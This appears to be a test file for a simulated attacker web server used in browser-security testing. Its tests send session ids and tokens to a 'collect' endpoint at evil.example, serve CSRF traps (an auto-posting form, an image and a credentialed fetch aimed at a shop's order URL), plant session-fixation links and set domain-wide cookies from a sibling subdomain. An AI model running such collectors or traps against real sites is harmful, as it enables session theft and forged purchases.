import { beforeEach, expect, test } from 'vitest';
import { Town, type Guest } from './support/guest.ts';

let town: Town;
let guest: Guest;

beforeEach(() => {
  town = new Town();
  guest = town.guest();
});

test('what pictures and scripts bring is written down, with the page that sent it', async () => {
  const from = [['Referer', 'https://shop.example/products/salt-bread']] as const;
  const picture = await guest.get('https://evil.example/collect?sid%3Dabc', from);
  expect([picture.status, picture.field('Content-Type')]).toEqual([
    200,
    'image/svg+xml; charset=utf-8',
  ]);
  const sent = await guest.send('POST', 'https://evil.example/collect', 'token=xyz', [
    ['Origin', 'https://shop.example'],
  ]);
  expect([sent.status, sent.field('Access-Control-Allow-Origin')]).toEqual([204, '*']);
  expect([...town.loot.values()]).toMatchObject([
    { id: '1', method: 'GET', query: 'sid=abc', from: from[0][1], collectedAt: town.now },
    { id: '2', method: 'POST', content: 'token=xyz', from: 'https://shop.example' },
  ]);
  expect(sent.trace).toMatchObject([{ code: 'loot-collected', values: { octets: 9 } }]);
});

test('an unreadable query is kept as it came, and only so much of everything', async () => {
  await guest.get('https://evil.example/collect?%E0%A4%A');
  for (let count = 0; count < 205; count += 1) await guest.get('https://evil.example/collect?x');
  expect([town.loot.size, town.loot.has('6'), town.loot.has('206')]).toEqual([200, false, true]);
});

test.each([
  [
    'https://evil.example/form',
    '<form id="trap" method="post" action="https://shop.example/orders">',
  ],
  ['https://evil.example/picture', '<img src="https://shop.example/cart/order"'],
  ['https://evil.example/fetch', '"credentials":"include"'],
  ['https://evil.example/lead', 'location.href = "https://shop.example/cart/order"'],
  ['https://evil.example/link?sid=abc', 'href="https://shop.example/login?sid=abc"'],
  ['https://blog.shop.example/form?token=abc', 'name="csrf_token" value="abc"'],
])('%s', async (address, part) => {
  expect((await guest.get(address)).content).toContain(part);
});

test('nothing in an address can end the script of a trap', async () => {
  const { content } = await guest.get('https://evil.example/fetch?token=</script><script>x()');
  expect(content.match(/<\/script>/g)).toHaveLength(1);
});

test('the sibling sets a cookie for the whole domain, and nothing but a cookie', async () => {
  const cookie = await guest.get(
    'https://blog.shop.example/form?cookie=sid&value=abc&path=/orders',
  );
  expect(cookie.field('Set-Cookie')).toBe('sid=abc; Domain=shop.example; Path=/orders; Secure');
  const odd = await guest.get('https://blog.shop.example/?cookie=sid;x&value=abc');
  expect(odd.field('Set-Cookie')).toBeNull();
});
